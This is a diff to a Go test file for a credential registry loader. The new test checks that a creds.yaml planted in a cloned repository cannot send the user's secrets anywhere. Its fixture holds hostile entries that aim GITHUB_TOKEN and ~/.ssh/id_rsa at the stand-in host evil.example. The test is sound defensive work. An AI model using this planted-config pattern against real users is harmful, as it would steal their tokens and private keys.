@@ -1,10 +1,12 @@
 package store
 
 import (
+	"errors"
 	"fmt"
 	"os"
 	"path/filepath"
 	"strings"
+	"syscall"
 	"testing"
 )
 
@@ -162,15 +164,15 @@ func TestReadRegistries(t *testing.T) {
 			}
 		}
 	}
-	if rs.Exposed() != true { // "direct" has a part that stands there
+	if rs.Exposed() != file { // "direct" has a part that stands there
 		t.Error("a password in a file that all may read is not seen")
 	}
 	write("creds.yaml", "- {name: a, url: a.example, username: u, password: x}", 0o600)
-	if rs, err = ReadRegistries(file); err != nil || rs.Exposed() {
+	if rs, err = ReadRegistries(file); err != nil || rs.Exposed() != "" {
 		t.Errorf("closed to others: exposed, or %v", err)
 	}
 	write("creds.yaml", "- {name: a, url: a.example, username: u, password: '${X}'}", 0o644)
-	if rs, err = ReadRegistries(file); err != nil || rs.Exposed() {
+	if rs, err = ReadRegistries(file); err != nil || rs.Exposed() != "" {
 		t.Errorf("without a password of its own: exposed, or %v", err)
 	}
 	if _, err := rs.Find("b"); err == nil || !strings.Contains(err.Error(), `no registry "b" in `+file+": it has a") {
@@ -241,4 +243,109 @@ func FuzzParseCreds(f *testing.F) {
 			}
 		}
 	})
+}
+
+// A creds.yaml that came with a cloned repository sends nothing of the user's
+// anywhere, and does not take the place of the user's own.
+func TestFindRegistries(t *testing.T) {
+	dir, home := t.TempDir(), t.TempDir()
+	t.Chdir(dir)
+	t.Setenv("HOME", home)
+	t.Setenv("XDG_CONFIG_HOME", filepath.Join(home, ".config"))
+	t.Setenv("GITHUB_TOKEN", secretWord)
+	own := filepath.Join(home, ".config/hpcc/creds.yaml")
+	write := func(file, text string) {
+		t.Helper()
+		if err := os.MkdirAll(filepath.Dir(file), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(file, []byte(text), 0o600); err != nil {
+			t.Fatal(err)
+		}
+	}
+	find := func() *Registries {
+		t.Helper()
+		rs, err := FindRegistries()
+		if err != nil {
+			t.Fatal(err)
+		}
+		return rs
+	}
+	if rs := find(); len(rs.Files) > 0 {
+		t.Errorf("without files: %v", rs.Files)
+	}
+	write("creds.yaml", `
+- {name: variable, url: evil.example, username: u, password: '${GITHUB_TOKEN}'}
+- {name: user, url: evil.example, username: '${GITHUB_TOKEN}', password: x}
+- {name: bearer, url: evil.example, token: 'a${GITHUB_TOKEN}'}
+- {name: file, url: evil.example, username: u, password_file: ~/.ssh/id_rsa}
+- {name: clear, url: 'http://ours.example'}
+- {name: here, url: 'http://127.0.0.1:5000', username: u, password: x}
+- {name: plain, url: evil.example, username: u, password: '$${x}'}
+- {name: work, url: evil.example}
+`)
+	for round := range 2 {
+		rs := find()
+		for name, line := range map[string]int{"variable": 2, "user": 3, "bearer": 4, "file": 5, "clear": 6} {
+			r, err := rs.Find(name)
+			if err != nil {
+				t.Fatal(err)
+			}
+			want := fmt.Sprintf("%s:%d: a creds.yaml that was found", filepath.Join(dir, "creds.yaml"), line)
+			if o, err := r.Remote(); err == nil || !strings.Contains(err.Error(), want) || o.Credentials != nil {
+				t.Errorf("%s: %+v, %v; want %q", name, o, err, want)
+			}
+		}
+		for _, name := range []string{"here", "plain"} {
+			r, err := rs.Find(name)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if _, err := r.Remote(); err != nil {
+				t.Errorf("%s: %v", name, err)
+			}
+		}
+		r, err := rs.Find("work")
+		want, shadowed := "evil.example", "[]"
+		if round == 1 {
+			want, shadowed = "ours.example", "[work]"
+		}
+		if err != nil || r.Host != want || fmt.Sprint(rs.Shadowed) != shadowed {
+			t.Errorf("work leads to %+v (%v), shadowed %v; want %s, %s", r, err, rs.Shadowed, want, shadowed)
+		}
+		if round == 1 {
+			if o, err := r.Remote(); err != nil || string(o.Credentials.Password) != secretWord {
+				t.Errorf("the user's own entry: %v", err)
+			}
+		}
+		write(own, "- {name: work, url: ours.example, username: u, password: '${GITHUB_TOKEN}'}\n")
+	}
+	// Named, the file is trusted.
+	rs, err := ReadRegistries("creds.yaml")
+	if err != nil {
+		t.Fatal(err)
+	}
+	r, err := rs.Find("variable")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if o, err := r.Remote(); err != nil || string(o.Credentials.Password) != secretWord {
+		t.Errorf("a file that was named: %v", err)
+	}
+	// What nobody can read is passed over where the user has a file.
+	for _, spoil := range []func() error{
+		func() error { return os.WriteFile("creds.yaml", []byte("a: [b"), 0o600) },
+		func() error { return errors.Join(os.Remove("creds.yaml"), syscall.Mkfifo("creds.yaml", 0o600)) },
+	} {
+		if err := spoil(); err != nil {
+			t.Fatal(err)
+		}
+		rs := find()
+		if _, err := rs.Find("work"); err != nil || rs.Skipped == nil {
+			t.Errorf("work: %v, skipped %v", err, rs.Skipped)
+		}
+		if _, err := rs.Find("other"); err == nil || !strings.Contains(err.Error(), "creds.yaml") {
+			t.Errorf("other: %v", err)
+		}
+	}
 }
